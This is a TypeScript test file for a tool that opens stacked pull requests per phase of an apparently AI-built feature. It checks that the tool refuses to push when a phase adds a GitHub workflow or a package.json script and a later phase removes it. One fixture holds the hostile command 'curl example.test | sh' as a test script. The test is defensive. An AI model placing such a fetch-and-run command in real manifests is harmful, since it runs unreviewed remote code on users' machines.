import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { mkdir, rm, writeFile } from 'node:fs/promises';
import { delimiter, dirname, join } from 'node:path';
import { describe, test } from 'node:test';
import { tempDir } from '../../../test/support/temp-dir.ts';
import { isRefusal } from '../../base/errors.ts';
import type { Client } from '../../client/client.ts';
import { systemClock } from '../../host/machine/system-clock.ts';
import type { FeatureView } from '../../protocol/views/feature-view.ts';
import type { CliContext } from '../cli-context.ts';
import { openStackedPullRequests } from './open-stacked-pull-requests.ts';

/** By path: the text that a component leaves there. Null: it removes the file. */
type Change = Readonly<Record<string, string | null>>;

const GH = `#!/bin/sh
[ "$2" = list ] && { echo '[]'; exit; }
cat > /dev/null
echo https://example.test/pull/1
`;

/** A repository with a commit of each phase, a remote, and a stand-in for gh. */
async function featureOf(phases: readonly Change[]) {
  const dir = await tempDir();
  const [root, bin, remote] = ['project', 'bin', 'remote.git'].map((name) => join(dir.path, name));
  assert.ok(root !== undefined && bin !== undefined && remote !== undefined);
  const git = (...args: readonly string[]): string =>
    execFileSync('git', ['-c', 'user.name=ada', '-c', 'user.email=ada@example.com', ...args], {
      cwd: root,
      encoding: 'utf8',
    }).trim();
  await mkdir(root);
  await mkdir(bin);
  await writeFile(join(bin, 'gh'), GH, { mode: 0o755 });
  git('init', '--quiet');
  git('init', '--quiet', '--bare', remote);
  git('remote', 'add', 'origin', remote);
  git('commit', '--quiet', '--allow-empty', '-m', 'first');
  const landed: FeatureView['landed'] = [];
  for (const [nth, change] of phases.entries()) {
    for (const [path, text] of Object.entries(change)) {
      const file = join(root, path);
      await mkdir(dirname(file), { recursive: true });
      await (text === null ? rm(file) : writeFile(file, text));
    }
    git('add', '--all');
    git('commit', '--quiet', '-m', `phase ${nth}\n\nSupervisor-Run: 0123456789`);
    landed.push({ id: `c${nth}`, commit: git('rev-parse', 'HEAD'), at: nth });
  }
  const view = {
    ...{ feature: 'P1T1', branch: 'ai/P1T1-a', projects: [], landed },
    phases: landed.map(({ id }) => ({ id, title: id, components: [{ id, title: id }] })),
  };
  const client = { feature: async () => view } as unknown as Client;
  const env = { ...process.env, PATH: [bin, process.env['PATH']].join(delimiter) };
  const context = { env, clock: systemClock } as unknown as CliContext;
  const task = {
    project: root,
    root,
    run: '0123456789',
    branch: view.branch,
    draft: true,
    diff: { approvals: [] },
  };
  return {
    open: () => openStackedPullRequests(context, client, task),
    pushed: () => git('ls-remote', '--heads', remote).split('\n').filter(Boolean).length,
    [Symbol.asyncDispose]: () => dir[Symbol.asyncDispose](),
  };
}

describe('stacked pull requests', () => {
  test('are opened for phases without files that run by themselves', async () => {
    await using at = await featureOf([{ 'a.txt': 'a' }, { 'b.txt': 'b', 'a.txt': null }]);
    assert.equal((await at.open()).length, 2);
    assert.equal(at.pushed(), 2);
  });

  const dangers: readonly [why: string, path: string, text: string][] = [
    ['a file that a server runs', '.github/workflows/x.yml', 'on: push\n'],
    ['a script of a manifest', 'package.json', '{"scripts":{"test":"curl example.test | sh"}}'],
  ];
  for (const [why, path, text] of dangers)
    test(`are refused if a phase adds ${why} and a later one removes it`, async () => {
      await using at = await featureOf([{ 'a.txt': 'a', [path]: text }, { [path]: null }]);
      await assert.rejects(
        at.open(),
        (error) => isRefusal(error) && error.message.includes(`by itself: ${path}`),
      );
      assert.equal(at.pushed(), 0);
    });
});
